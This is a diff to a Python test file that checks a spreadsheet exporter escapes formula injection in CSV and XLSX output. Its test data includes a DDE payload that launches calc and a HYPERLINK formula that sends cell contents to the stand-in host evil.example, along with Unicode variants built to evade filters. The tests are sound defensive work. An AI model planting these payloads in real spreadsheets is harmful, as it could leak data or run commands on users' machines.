@@ -1,5 +1,7 @@
 """Tables as spreadsheets: what each dialect writes, and what a workbook has no room for."""
 
+import csv
+import re
 from pathlib import Path
 from typing import Any
 
@@ -10,6 +12,36 @@ from openpyxl import load_workbook
 
 from release import spreadsheet
 from release.spreadsheet import DIALECTS, NotForExcel, write_csv, write_workbook
+
+FORMULAS = {  # as delivered, as written
+    "=1+1": "'=1+1",
+    "+49 231": "'+49 231",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")': '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "\tx": "'\tx",
+    "\rx": "'\rx",
+    "\nx": "'\nx",
+    "\t=x": "'\t'=x",
+    "\uff1dx": "'\uff1dx",
+    "\uff0bx": "'\uff0bx",
+    "\uff0dx": "'\uff0dx",
+    "\uff20x": "'\uff20x",
+    "\ufe66x": "'\ufe66x",
+    " =x": "' =x",
+    "\u00a0=x": "'\u00a0=x",
+    "\u200b\ufeff=x": "'\u200b\ufeff=x",
+    "a\n=x": "a\n'=x",
+    "a\r\n@x\n\n-x": "a\r\n'@x\n\n'-x",
+    "a\u2028=x": "a\u2028'=x",
+    "a;=x": "a;'=x",
+    "a, +x": "a,' +x",
+    "a\t=x": "a\t'=x",
+    "=": "'=",
+    "'=x": "''=x",
+    "a\n''=x": "a\n'''=x",
+}
+HARMLESS = ["", "a", "'", "'a", "a=1", "a - b", "a@b", "a\nb", "Wege; Pl\u00e4tze", "1-2", "\u2013 x"]
 
 
 def mart(folder: Path, **columns: list[Any]) -> Path:
@@ -31,6 +63,40 @@ def test_numbers_and_texts_of_a_dialect(tmp_path: Path, dialect: str, expected: 
     assert (tmp_path / "out.csv").read_bytes() == expected
 
 
+@pytest.mark.attack(
+    "a formula in a delivered text, at its beginning or after a line break · written as text, numbers untouched"
+)
+@pytest.mark.parametrize("dialect", sorted(DIALECTS))
+def test_a_formula_is_a_text_in_a_csv(tmp_path: Path, dialect: str) -> None:
+    source = mart(tmp_path, note=[*FORMULAS, *HARMLESS], value=[-1.5] * (len(FORMULAS) + len(HARMLESS)))
+    write_csv(source, tmp_path / "out.csv", DIALECTS[dialect])
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
+        _, *rows = csv.reader(handle, delimiter=DIALECTS[dialect].separator)
+    assert [row[0] for row in rows] == [*FORMULAS.values(), *HARMLESS]
+    assert {row[1] for row in rows} == {"-1" + DIALECTS[dialect].decimal + "5"}
+
+
+@pytest.mark.attack("a formula in a delivered text, at its beginning or after a line break · a text in a workbook too")
+def test_a_formula_is_a_text_in_a_workbook(tmp_path: Path) -> None:
+    delivered = {text: written for text, written in FORMULAS.items() if "\r" not in text}  # XML ends lines by \n
+    write_workbook(mart(tmp_path, note=[*delivered], value=[-1.5] * len(delivered)), tmp_path / "out.xlsx", "mart", [])
+    _, *rows = load_workbook(tmp_path / "out.xlsx")["mart"].iter_rows()
+    assert [row[0].value for row in rows] == [*delivered.values()]
+    assert {row[0].data_type for row in rows} == {"s"}
+    assert {(row[1].value, row[1].data_type) for row in rows} == {(-1.5, "n")}
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *FORMULAS.values(), *HARMLESS])
+def test_what_was_put_in_can_be_taken_out_as_the_guide_says(tmp_path: Path, text: str) -> None:
+    write_csv(mart(tmp_path, note=[text]), tmp_path / "out.csv", DIALECTS["plain"])
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
+        _, (written,) = csv.reader(handle)
+    sign = "[=+@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b-]"
+    read = re.sub(r"^'(?='*[\t\n\r])", "", written)
+    read = re.sub(rf"((?:^|[\t\n\r;,\u2028]))'(?='*[ \u00a0\u200b\ufeff]*{sign})", r"\1", read)
+    assert read == text
+
+
 def test_a_workbook_holds_every_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(spreadsheet, "_BLOCK", 2)
     write_workbook(mart(tmp_path, note=["a", "-", None], n=[1, 2, 3]), tmp_path / "out.xlsx", "x" * 40, ["note"])
@@ -40,7 +106,10 @@ def test_a_workbook_holds_every_row(tmp_path: Path, monkeypatch: pytest.MonkeyPa
     assert list(book["Hinweise"].values) == [("note",)]
 
 
-@pytest.mark.parametrize(("text", "fits"), [("x" * 32_766, True), ("x" * 32_767, False), ("bell\x07", False)])
+@pytest.mark.parametrize(
+    ("text", "fits"),
+    [("x" * 32_767, True), ("x" * 32_768, False), ("=" + "x" * 32_766, False), ("bell\x07", False)],
+)
 def test_a_text_a_cell_cannot_hold_is_refused_before_anything_is_written(tmp_path: Path, text: str, fits: bool) -> None:
     source = mart(tmp_path, n=[1], note=[text])
     if fits:
